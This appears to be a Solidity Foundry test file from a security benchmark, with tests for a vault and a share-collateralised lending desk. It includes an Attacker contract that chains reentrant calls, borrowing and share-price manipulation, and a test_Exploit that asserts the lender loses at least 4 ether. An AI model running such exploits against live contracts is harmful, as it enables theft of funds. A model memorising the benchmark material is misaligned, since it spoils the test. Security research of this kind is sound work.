// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./ReserveVault.sol";
import "./context/ShareCreditDesk.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-c91cfe3b-e76f-448d-8117-9c0e1368e4d3

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract WrappedEther is ERC20 {
    constructor() ERC20("Wrapped Ether", "WETH") {}

    function deposit() external payable {
        _mint(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        _burn(msg.sender, amount);
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "not sent");
    }
}

/// @notice Calls the vault while it is paid, and expects these answers.
contract Callback {
    ReserveVault internal vault;
    bytes internal call_;
    bytes internal answer;

    constructor(ReserveVault vault_) payable {
        vault = vault_;
        vault_.deposit{value: msg.value}(0, 0);
    }

    receive() external payable {
        (bool ok, bytes memory why) = address(vault).call(call_);
        require(!ok && keccak256(why) == keccak256(answer), "let through");
    }

    function redeem(bytes calldata call__, bytes calldata answer_) external {
        (call_, answer) = (call__, answer_);
        vault.redeem(0.1 ether, 0, 0);
    }
}

contract Attacker {
    ReserveVault internal vault;
    ShareCreditDesk internal desk;
    WrappedEther internal weth;
    uint256 internal plan;

    constructor(ReserveVault vault_, ShareCreditDesk desk_, WrappedEther weth_) {
        (vault, desk, weth) = (vault_, desk_, weth_);
        weth_.approve(address(vault_), type(uint256).max);
        vault_.approve(address(desk_), type(uint256).max);
    }

    receive() external payable {
        uint256 now_ = plan;
        plan = 0;
        if (now_ == 1) try this.borrowAll() {} catch {}
        if (now_ == 2) try vault.redeem(vault.balanceOf(address(this)), 0, 0) {} catch {}
        if (now_ == 3) try vault.deposit{value: msg.value}(0, 0) {} catch {}
        if (now_ == 4) try vault.addYield{value: msg.value}() {} catch {}
        if (now_ == 5) try desk.borrow(1 ether) {} catch {}
        if (now_ == 6) try desk.removeCollateral(1 ether) {} catch {}
    }

    function borrowAll() external {
        (uint256 shares, uint256 debt, ) = desk.positions(address(this));
        desk.borrow(vault.shareValue(shares) / 2 - debt);
    }

    function run() external {
        vault.deposit(80 ether, 0);
        desk.addCollateral(10 ether);
        uint256 part = vault.balanceOf(address(this)) / 8;
        for (uint256 i = 2; i < 5; ++i) {
            plan = i;
            try vault.redeem(part, 0, 0) {} catch {}
        }
        plan = 5;
        try desk.borrow(0.5 ether) {} catch {}
        plan = 6;
        try desk.borrow(0.5 ether) {} catch {}
        plan = 0;
        try desk.removeCollateral(10 ether) {} catch {}
        try desk.repay() {} catch {}
        try desk.foreclose(address(this), address(this)) {} catch {}
        try desk.withdraw(address(this), 1 ether) {} catch {}
        try vault.sweep(address(this)) {} catch {}
        try vault.transferFrom(address(desk), address(this), 10 ether) {} catch {}
        try vault.addYield{value: 0.2 ether}() {} catch {}
        try desk.borrow(6 ether) {} catch {}
        weth.transfer(address(vault), 5 ether);
        try desk.borrow(6 ether) {} catch {}
        uint256 rest = weth.balanceOf(address(this));
        try vault.deposit(rest, 0) {} catch {}
        for (uint256 i = 0; i < 3; ++i) {
            plan = 1;
            try vault.redeem((vault.balanceOf(address(this)) * 9) / 10, 0, 0) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ADMIN = address(0xAD);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant START = 1_780_000_000;

    WrappedEther internal weth;
    ReserveVault internal vault;
    ShareCreditDesk internal desk;
    Attacker internal mallory;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 110 ether);
        weth = new WrappedEther();
        vault = new ReserveVault(IWrappedEther(address(weth)), ADMIN);
        vm.deal(ADMIN, 1 ether);
        vm.prank(ADMIN);
        vault.initialize{value: 1 ether}(1_000 ether, 0, 0);
        desk = new ShareCreditDesk{value: 20 ether}(address(vault), ADMIN);
        mallory = new Attacker(vault, desk, weth);
        weth.deposit{value: 90 ether}();
        weth.transfer(address(mallory), 90 ether);
        vm.deal(ANA, 10 ether);
        vm.prank(ANA);
        vault.deposit{value: 10 ether}(0, 10 ether);
    }

    function fund(address who, uint256 amount) internal {
        vm.deal(address(this), amount);
        weth.deposit{value: amount}();
        weth.transfer(who, amount);
        vm.prank(who);
        weth.approve(address(vault), amount);
    }

    function test_Regular() public {
        require(vault.shareValue(1 ether) == 1 ether && vault.balanceOf(ANA) == 10 ether, "at par");
        fund(ANA, 11 ether);
        require(vault.previewDeposit(11 ether) == 11 ether && vault.depositRoom() == 989 ether, "before");
        vm.prank(ANA);
        require(vault.deposit(11 ether, 11 ether) == 11 ether, "in tokens");
        vm.deal(address(this), 11 ether);
        vault.addYield{value: 11 ether}();
        require(vault.shareValue(10 ether) == 15 ether, "yield raises it");

        // a loan
        vm.startPrank(ANA);
        vault.approve(address(desk), 10 ether);
        desk.addCollateral(10 ether);
        vm.expectRevert("ShareCreditDesk: not covered");
        desk.borrow(7.6 ether);
        desk.borrow(7.5 ether);
        require(ANA.balance == 7.425 ether, "less the fee");
        vm.expectRevert("ShareCreditDesk: not covered");
        desk.removeCollateral(1);
        vm.deal(ANA, 7.5 ether);
        desk.repay{value: 7.5 ether}();
        desk.removeCollateral(4 ether);
        desk.borrow(1.5 ether);
        vm.deal(ANA, 0);
        vm.stopPrank();
        vm.startPrank(ADMIN);
        vm.expectRevert("ShareCreditDesk: not overdue");
        desk.foreclose(ANA, ADMIN);
        vm.warp(START + 91 days);
        desk.foreclose(ANA, ADMIN);
        require(vault.balanceOf(ADMIN) == 1 ether, "foreclosed");
        desk.withdraw(BEN, 1 ether);
        vm.stopPrank();
        vm.prank(ANA);
        desk.removeCollateral(5 ether);

        // and out again
        vm.prank(ANA);
        vault.redeem(11 ether, 11 ether, 5.5 ether);
        require(ANA.balance == 11 ether && weth.balanceOf(ANA) == 5.5 ether, "a part of either");
        require(vault.shareValue(10 ether) == 15 ether, "as before");

        // moving reserves, limits, roles
        vm.startPrank(ADMIN);
        vault.wrap(2 ether);
        (uint256 inEth, uint256 inWeth) = vault.reserves();
        require(inEth == 9 ether && inWeth == 7.5 ether && weth.balanceOf(address(vault)) == 7.5 ether, "wrapped");
        vault.unwrap(3 ether);
        (inEth, inWeth) = vault.reserves();
        require(inEth == 12 ether && address(vault).balance == 12 ether && inWeth == 4.5 ether, "unwrapped");
        vault.setLimits(10 ether, 100, 1_000);
        require(vault.depositRoom() == 0, "full");
        vault.pause();
        vault.unpause();
        vault.grantRole(vault.OPERATOR_ROLE(), BEN);
        vault.revokeRole(vault.OPERATOR_ROLE(), BEN);
        vault.renounceRole(vault.PAUSER_ROLE(), ADMIN);
        vault.transfer(BEN, 1 ether);
        vm.stopPrank();
        vm.prank(BEN);
        vault.approve(ANA, 1 ether);
        vm.prank(ANA);
        vault.transferFrom(BEN, ANA, 1 ether);
        (uint256 ethOut, uint256 wethOut) = vault.previewRedeem(11 ether);
        require(ethOut == 11.88 ether && wethOut == 4.455 ether, "less the fee");
        vm.startPrank(ANA);
        vault.redeem(5 ether, 0, 0);
        require(vault.shareValue(1 ether) == 1.5125 ether, "the fee stays");
        weth.transfer(address(vault), 1 ether);
        vm.stopPrank();
        vm.prank(ADMIN);
        vault.sweep(BEN);
        require(weth.balanceOf(BEN) == 1 ether, "swept");

        // in tokens alone, and the part of the treasury
        (ethOut, wethOut) = vault.previewRedeem(0.5 ether);
        uint256 held = weth.balanceOf(ANA);
        (inEth, inWeth) = vault.reserves();
        vm.prank(ANA);
        vault.redeemWrapped(0.5 ether, ethOut + wethOut);
        require(weth.balanceOf(ANA) - held == ethOut + wethOut, "together");
        (uint256 leftEth, uint256 leftWeth) = vault.reserves();
        require(inEth - leftEth == ethOut && inWeth - leftWeth == wethOut, "from both");
        require(weth.balanceOf(address(vault)) == leftWeth && address(vault).balance == leftEth, "books");
        vm.deal(address(this), 1 ether);
        vault.addYield{value: 1 ether}();
        require(vault.feesOwed() == 0.1 ether, "a part of the yield");
        vm.prank(ADMIN);
        vault.collectFees(address(0xFEE));
        require(address(0xFEE).balance == 0.1 ether && vault.feesOwed() == 0, "collected");
    }

    // What the lender has: ether, and loans as far as their collateral covers them.
    function recoverable() public view returns (uint256) {
        (uint256 shares, uint256 debt, ) = desk.positions(address(mallory));
        uint256 cover = vault.shareValue(shares);
        return address(desk).balance + (cover < debt ? cover : debt);
    }

    function missing(address who, bytes32 role) internal pure returns (bytes memory) {
        return abi.encodeWithSignature("AccessControlUnauthorizedAccount(address,bytes32)", who, role);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("ReserveVault: no token");
        new ReserveVault(IWrappedEther(address(0)), ADMIN);
        vm.expectRevert("VaultRoles: no admin");
        new ReserveVault(IWrappedEther(address(weth)), address(0));
        ReserveVault other = new ReserveVault(IWrappedEther(address(weth)), ADMIN);
        vm.deal(ADMIN, 3 ether);
        vm.deal(ANA, 1 ether);
        vm.prank(ANA);
        vm.expectRevert(missing(ANA, bytes32(0)));
        other.initialize{value: 1 ether}(10 ether, 0, 0);
        vm.startPrank(ADMIN);
        vm.expectRevert("ReserveVault: seed missing");
        other.initialize{value: 0.5 ether}(10 ether, 0, 0);
        vm.expectRevert("ReserveVault: fee too high");
        other.initialize{value: 1 ether}(10 ether, 101, 0);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        vault.initialize{value: 1 ether}(10 ether, 0, 0);
        vm.stopPrank();
        vm.expectRevert("ShareCreditDesk: bad setup");
        new ShareCreditDesk(address(0), ADMIN);
        vm.expectRevert("ShareCreditDesk: bad setup");
        new ShareCreditDesk(address(vault), address(0));
    }

    function test_RefusesDeposits() public {
        fund(BEN, 10 ether);
        vm.startPrank(BEN);
        vm.expectRevert("ReserveVault: too few shares");
        vault.deposit(0, 0);
        vm.expectRevert("ReserveVault: too few shares");
        vault.deposit(1 ether, 1 ether + 1);
        vm.expectRevert();
        vault.deposit(11 ether, 0);
        vm.expectRevert("ReserveVault: ether refused");
        payable(address(vault)).transfer(0);
        vm.stopPrank();
        vm.startPrank(ADMIN);
        vault.setLimits(12 ether - 1, 0, 0);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("ReserveVault: cap reached");
        vault.deposit(1 ether, 0);
        vm.prank(ADMIN);
        vault.pause();
        require(vault.depositRoom() == 0, "none while paused");
        vm.prank(BEN);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        vault.deposit(0.5 ether, 0);
    }

    function test_RefusesForeclosures() public {
        vm.startPrank(ANA);
        vault.approve(address(desk), 10 ether);
        desk.addCollateral(10 ether);
        vm.stopPrank();
        vm.prank(ADMIN);
        vm.expectRevert("ShareCreditDesk: not overdue");
        desk.foreclose(ANA, ADMIN);
    }

    function test_RefusesRedemptions() public {
        fund(BEN, 11 ether);
        vm.prank(BEN);
        vault.deposit(11 ether, 0);
        vm.startPrank(BEN);
        vm.expectRevert("ReserveVault: too little");
        vault.redeem(2 ether, 1 ether + 1, 1 ether);
        vm.expectRevert("ReserveVault: too little");
        vault.redeem(2 ether, 1 ether, 1 ether + 1);
        vm.expectRevert();
        vault.redeem(11 ether + 1, 0, 0);
        vm.expectRevert("ReserveVault: too little");
        vault.redeemWrapped(1 ether, 1 ether + 1);
        vault.transfer(address(weth), 1 ether);
        vm.stopPrank();
        vm.prank(address(weth));
        vault.transfer(address(desk), 1 ether);
        vm.prank(address(desk));
        vm.expectRevert("ReserveVault: not sent");
        vault.redeem(1 ether, 0, 0);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert(missing(ANA, vault.OPERATOR_ROLE()));
        vault.wrap(1);
        vm.expectRevert(missing(ANA, vault.OPERATOR_ROLE()));
        vault.unwrap(0);
        vm.expectRevert(missing(ANA, bytes32(0)));
        vault.sweep(ANA);
        vm.expectRevert(missing(ANA, bytes32(0)));
        vault.setLimits(1, 1, 1);
        vm.expectRevert(missing(ANA, bytes32(0)));
        vault.collectFees(ANA);
        vm.expectRevert(missing(ANA, vault.PAUSER_ROLE()));
        vault.pause();
        vm.expectRevert(missing(ANA, vault.PAUSER_ROLE()));
        vault.unpause();
        vm.expectRevert(missing(ANA, desk.TREASURER_ROLE()));
        desk.foreclose(ANA, ANA);
        vm.expectRevert(missing(ANA, desk.TREASURER_ROLE()));
        desk.withdraw(ANA, 1);
        vm.stopPrank();
        vm.startPrank(ADMIN);
        vm.expectRevert("ReserveVault: bad recipient");
        vault.sweep(address(vault));
        vm.expectRevert("ReserveVault: fee too high");
        vault.setLimits(1, 101, 1);
        vm.expectRevert("ReserveVault: part too high");
        vault.setLimits(1, 1, 1_001);
        vm.expectRevert("ShareCreditDesk: not sent");
        desk.withdraw(address(vault), 1);
        vm.stopPrank();
    }

    function test_RefusesCallbacks() public {
        vm.deal(address(this), 3 ether);
        Callback callback = new Callback{value: 3 ether}(vault);
        bytes memory busy = abi.encodeWithSignature("Error(string)", "ReserveVault: settling");
        callback.redeem(abi.encodeCall(vault.deposit, (0, 0)), busy);
        callback.redeem(abi.encodeCall(vault.redeem, (0, 0, 0)), busy);
        callback.redeem(abi.encodeCall(vault.redeemWrapped, (0, 0)), busy);
        callback.redeem(abi.encodeCall(vault.addYield, ()), busy);
        callback.redeem(abi.encodeCall(vault.collectFees, (address(this))), busy);
        callback.redeem(abi.encodeCall(vault.wrap, (0)), busy);
        callback.redeem(abi.encodeCall(vault.unwrap, (0)), busy);
        callback.redeem(abi.encodeCall(vault.sweep, (address(this))), busy);
        bytes memory mute = abi.encodeWithSignature("Error(string)", "ReserveVault: not settled");
        callback.redeem(abi.encodeCall(vault.reserves, ()), mute);
        callback.redeem(abi.encodeCall(vault.previewDeposit, (1)), mute);
        callback.redeem(abi.encodeCall(vault.previewRedeem, (1)), mute);
        callback.redeem(abi.encodeCall(vault.depositRoom, ()), mute);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before - recoverable() >= 4 ether, "covered");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
